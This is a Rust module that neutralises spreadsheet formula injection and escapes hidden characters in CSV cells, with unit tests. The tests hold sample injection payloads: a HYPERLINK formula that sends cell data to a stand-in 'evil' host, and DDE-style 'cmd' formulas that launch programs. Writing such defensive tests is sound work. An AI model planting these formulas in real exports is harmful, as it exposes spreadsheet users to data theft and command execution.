//! CSV cells that neither a terminal nor a spreadsheet can be tricked by.
//!
//! * Hidden characters (see [`visible`]) are escaped, except the newlines
//!   and tabs that notes may hold (CSV quotes them).
//! * OWASP "CSV Injection": a cell that starts with `=`, `+`, `-`, `@`, a
//!   tab or a carriage return is read as a formula by Excel, LibreOffice and
//!   Google Sheets (`=HYPERLINK(...)`, `+cmd|'...'!A0`). Such a cell gets a
//!   leading `'`, which spreadsheets show as text and do not display. A
//!   signed number written with digits and the separators of amounts and
//!   phone numbers only (`-12.50`, `+678 123 456 78`, `+44 (0)20 7946
//!   0958`) is left as it is: it holds no function, reference or command,
//!   so at worst a spreadsheet reads it as the number it is.

use std::borrow::Cow;

use serde_json::Value;

use crate::domain::visible;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// A JSON value as its CSV cell: empty for null, strings escaped and
/// neutralised, numbers and booleans as JSON writes them.
pub fn cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => text(s).into_owned(),
        other => other.to_string(),
    }
}

/// A text cell: hidden characters escaped, a formula neutralised. Borrowed
/// when nothing changes (printable ASCII that starts no formula, the common
/// case, is checked byte by byte without the Unicode tables).
pub fn text(s: &str) -> Cow<'_, str> {
    let s = if plain(s) {
        Cow::Borrowed(s)
    } else {
        visible::escape_keeping(s, &['\n', '\t'])
    };
    if s.starts_with(FORMULA_START) && !signed_number(&s) {
        Cow::Owned(format!("'{s}"))
    } else {
        s
    }
}

/// Undoes [`text`]'s neutralising, for `import`: a cell that starts with
/// `'` and then a formula character got its `'` from an export, and loses
/// it. A value that itself began with `'=` (or `'+`, `'-`, `'@`, `'` and a
/// tab) cannot be told apart from a neutralised one, and loses its quote
/// too: such values are refused by no validator but exist in no real data
/// we know of.
pub fn undo_neutralised(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) => rest,
        _ => s,
    }
}

/// Printable ASCII, newlines and tabs only: nothing to escape. A plain
/// loop, which stays fast in debug builds too.
fn plain(s: &str) -> bool {
    for &b in s.as_bytes() {
        if !(matches!(b, 0x20..=0x7e) || b == b'\n' || b == b'\t') {
            return false;
        }
    }
    true
}

/// `+` or `-`, then digits with only spaces, `.`, `,`, `-` and parentheses
/// between them: an amount or a phone number.
fn signed_number(s: &str) -> bool {
    let Some(rest) = s.strip_prefix(['+', '-']) else {
        return false;
    };
    rest.starts_with(|c: char| c.is_ascii_digit() || c == '(')
        && rest.chars().any(|c| c.is_ascii_digit())
        && rest
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | ',' | '-' | '(' | ')'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised() {
        for (input, expected) in [
            (
                "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
                "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("-1+A1", "'-1+A1"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "\\r=1+1"),
            ("=", "'="),
            ("-", "'-"),
            ("+", "'+"),
            ("-Kevin", "'-Kevin"),
            ("+ 1", "'+ 1"),
        ] {
            assert_eq!(text(input), expected, "{input:?}");
        }
    }

    #[test]
    fn neutralised_cells_read_back_as_written() {
        for input in [
            "=HYPERLINK(\"http://evil/\")",
            "+cmd|' /C calc'!A0",
            "-Kevin",
            "@SUM(A1:A9)",
            "\t=1+1",
            "-12.50",
            "+678 123 456 78",
            "Kevin Casey",
            "'quoted'",
            "",
        ] {
            assert_eq!(undo_neutralised(&text(input)), input, "{input:?}");
        }
    }

    #[test]
    fn numbers_amounts_and_phones_are_unchanged() {
        for input in [
            "12500.00",
            "-12.50",
            "+12.50",
            "1200.00",
            "+678 123 456 78",
            "+1 234 567 8901",
            "+44 (0)20 7946 0958",
            "-1 234,50",
            "06 12 34 56 78",
            "Kevin Casey",
            "a=b",
            "2026-06-04T13:00:00+02:00",
            "",
        ] {
            assert_eq!(text(input), input, "{input:?}");
        }
        assert_eq!(cell(&Value::from(-5)), "-5");
        assert_eq!(cell(&Value::Bool(true)), "true");
        assert_eq!(cell(&Value::Null), "");
    }

    #[test]
    fn hidden_characters_are_escaped_but_notes_keep_their_lines() {
        assert_eq!(text("x\u{1b}[2J"), "x\\e[2J");
        assert_eq!(text("a\u{200E}b"), "a\\u{200E}b");
        assert_eq!(text("line 1\n\tline 2"), "line 1\n\tline 2");
        assert_eq!(text("\u{1b}=1"), "\\e=1");
    }
}
